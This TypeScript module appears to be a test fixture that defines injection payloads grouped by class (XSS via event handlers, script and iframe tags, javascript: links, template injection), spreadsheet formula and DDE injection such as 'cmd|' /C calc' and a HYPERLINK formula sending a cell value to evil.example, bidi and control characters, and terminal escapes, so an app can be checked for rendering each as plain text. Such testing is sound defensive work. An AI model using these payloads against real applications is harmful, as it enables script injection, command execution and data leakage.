/** What is planted, by its class: each is to end as text. */
export const attacks = {
  'an image that fails': `"><img src=x onerror="window.planted=1">`,
  'a drawing': `'><svg onload="window.planted=1"><a xlink:href="javascript:window.planted=1">x</a>`,
  'a script': `</pre></textarea></title><script>window.planted=1</script>`,
  'a frame': `</option></select></datalist><iframe srcdoc="<script>parent.planted=1</script>"></iframe>`,
  'a link that runs': `javascript:window.planted=1//`,
  'an end of a text in a script': `'-alert(1)-'`,
  'a template': `{{constructor.constructor('window.planted=1')()}}\${window.planted=1}`,
  'an attribute': `" autofocus onfocus="window.planted=1" x="`,
  'formula =': `=HYPERLINK("https://evil.example/?"&A1)`,
  'formula +': `+cmd|' /C calc'!A0`,
  'formula -': `-2+3+cmd|' /C calc'!A0`,
  'formula @': `@SUM(1+9)*cmd|' /C calc'!A0`,
  'formula after a tab': `\t=1+1`,
  'formula after a carriage return': `\r=1+1`,
  'cells of its own': `",=1+1,"\r\n=1+1,x;=1+1`,
  'a turned direction': `\u202Efdp.exe\u2066\u2069`,
  'no width': `micro\u200Bso\u2060ft\uFEFF\u00AD`,
  controls: `\u0000\u0007\u007F\u0085\u2028`,
  'commands to a terminal': `\u001B]0;planted\u0007\u001B[2J\u009B31m`,
  'half a pair': `\uD800x\uDC00`,
  'a very long text': 'L'.repeat(3000),
} as const satisfies Readonly<Record<string, string>>

export type Attack = keyof typeof attacks
export const attackNames = Object.keys(attacks) as readonly Attack[]

/** Carried together: the first is what a text begins with, and no other of them makes a reader refuse the whole. */
const carriedTogether: readonly (readonly [Attack, ...Attack[]])[] = [
  ['formula =', 'an image that fails', 'a turned direction'],
  ['formula +', 'a drawing', 'no width'],
  ['formula -', 'a script', 'an end of a text in a script'],
  ['formula @', 'a template', 'an attribute', 'cells of its own'],
  ['formula after a tab', 'a frame', 'commands to a terminal'],
  ['formula after a carriage return', 'half a pair', 'controls'],
  ['a link that runs', 'a very long text'],
]

export type Payload = { readonly carries: readonly Attack[]; readonly text: (tag: string) => string }

/** With a tag in it, a text can be found again wherever it ends. */
export const payloads: readonly Payload[] = carriedTogether.map((carries) => {
  const [first, ...rest] = carries
  const after = rest.map((name) => attacks[name]).join('')
  return { carries, text: (tag) => `${attacks[first]}${tag}${after}` }
})

/** The ways into a text: in its place, behind it, before it. */
export const ways = [
  (_: string, planted: string) => planted,
  (text: string, planted: string) => text + planted,
  (text: string, planted: string) => planted + text,
] as const
